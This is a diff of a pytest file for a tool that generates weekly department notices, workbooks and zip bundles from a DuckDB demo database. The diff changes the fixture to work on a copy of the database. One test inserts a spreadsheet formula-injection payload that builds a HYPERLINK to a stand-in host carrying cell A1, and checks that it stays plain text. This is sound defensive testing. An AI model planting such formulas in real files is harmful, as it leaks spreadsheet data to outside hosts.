@@ -20,7 +20,9 @@ END = date(2026, 11, 22)  # the demo's week 52
 
 @pytest.fixture(scope="module")
 def made(demo_db, tmp_path_factory):
-    con = duckdb.connect(str(demo_db), read_only=True)
+    db = tmp_path_factory.mktemp("notices") / "copy.duckdb"  # a copy: a dashboard in this process may hold the demo
+    shutil.copy(demo_db, db)
+    con = duckdb.connect(str(db), read_only=True)
     try:
         ns = notices.build(con, "latest")
         p = con.execute("SELECT problem_id, found_on, deadline, closed_on, closed_by, is_closed, street FROM problems").df()
@@ -32,11 +34,11 @@ def made(demo_db, tmp_path_factory):
     open_ = p[p["found_on"].le(end) & ~(p["closed_on"].notna() & p["closed_on"].le(end)) & ~closed]
     by_unit = open_.merge(u, on="problem_id").groupby("department").agg(
         open=("problem_id", "nunique"), overdue=("deadline", lambda d: int((d < end).sum())))
-    return ns, by_unit, open_
+    return ns, by_unit, open_, db
 
 
 def test_every_unit_with_open_problems_gets_one_notice_with_the_stores_counts(made):
-    ns, by_unit, _ = made
+    ns, by_unit, _, _ = made
     assert ns.week.end == END
     got = {n.unit: (n.open, n.overdue) for n in ns.notices}
     want = {k: (int(r.open), int(r.overdue)) for k, r in by_unit.iterrows()}
@@ -47,7 +49,7 @@ def test_every_unit_with_open_problems_gets_one_notice_with_the_stores_counts(ma
 
 
 def test_the_word_notice_lists_the_problems_and_has_a_reply_slip(made, tmp_path):
-    ns, _, _ = made
+    ns, _, _, _ = made
     n = ns.notices[0]
     path = notices.notice_docx(ns, n, tmp_path / "n.docx")
     doc = Document(str(path))
@@ -67,7 +69,7 @@ def test_the_word_notice_lists_the_problems_and_has_a_reply_slip(made, tmp_path)
 
 
 def test_the_workbook_has_a_sheet_per_unit_and_stores_text_as_text(made, tmp_path):
-    ns, by_unit, _ = made
+    ns, by_unit, _, _ = made
     path = notices.workbook(ns, tmp_path / "w.xlsx")
     wb = CalamineWorkbook.from_path(str(path))
     names = wb.sheet_names
@@ -84,7 +86,7 @@ def test_the_workbook_has_a_sheet_per_unit_and_stores_text_as_text(made, tmp_pat
 
 
 def test_a_formula_in_a_description_stays_text(made, tmp_path):
-    ns, _, _ = made
+    ns, _, _, _ = made
     n = ns.notices[0]
     n.rows.loc[0, "问题描述"] = '=HYPERLINK("http://x.example/?q="&A1,"点此查看")'
     try:
@@ -100,7 +102,7 @@ def test_a_formula_in_a_description_stays_text(made, tmp_path):
 
 
 def test_the_soon_list_holds_the_overdue_and_the_nearly_due(made):
-    ns, _, open_ = made
+    ns, _, open_, _ = made
     soon = ns.soon
     overdue = sum(n.overdue for n in ns.notices)
     nearly = soon["整改情况"].str.startswith("剩") | soon["整改情况"].eq("今日到期")
@@ -108,8 +110,8 @@ def test_the_soon_list_holds_the_overdue_and_the_nearly_due(made):
     assert soon.loc[nearly, "整改情况"].str.extract(r"剩(\d+)个")[0].dropna().astype(int).le(3).all()
 
 
-def test_street_notices_count_each_problem_once(demo_db):
-    con = duckdb.connect(str(demo_db), read_only=True)
+def test_street_notices_count_each_problem_once(made):
+    con = duckdb.connect(str(made[3]), read_only=True)
     try:
         ns = notices.build(con, "latest", by="street")
         want = con.execute("""SELECT street, count(*) FROM problems WHERE found_on <= ? AND NOT (closed_on IS NOT NULL
@@ -120,7 +122,7 @@ def test_street_notices_count_each_problem_once(demo_db):
 
 
 def test_the_command_line_writes_one_file_per_unit(made, demo_db, tmp_path, capsys):
-    ns, by_unit, _ = made
+    ns, by_unit, _, _ = made
     db = tmp_path / "n.duckdb"
     shutil.copy(demo_db, db)
     out = tmp_path / "交办单"
@@ -135,7 +137,7 @@ def test_the_command_line_writes_one_file_per_unit(made, demo_db, tmp_path, caps
 
 
 def test_libreoffice_opens_a_notice(made, tmp_path):
-    ns, _, _ = made
+    ns, _, _, _ = made
     n = ns.notices[0]
     soffice = shutil.which("soffice") or shutil.which("libreoffice")
     assert soffice, "LibreOffice 未安装：运行 scripts/setup.sh --dev"
@@ -154,7 +156,7 @@ def test_the_zip_holds_every_notice_and_the_workbook(made):
     import io
     import zipfile
 
-    ns, by_unit, _ = made
+    ns, by_unit, _, _ = made
     z = zipfile.ZipFile(io.BytesIO(notices.zip_bytes(ns)))
     names = z.namelist()
     assert len(names) == len(by_unit) + 1 and "交办单_第52周_汇总.xlsx" in names
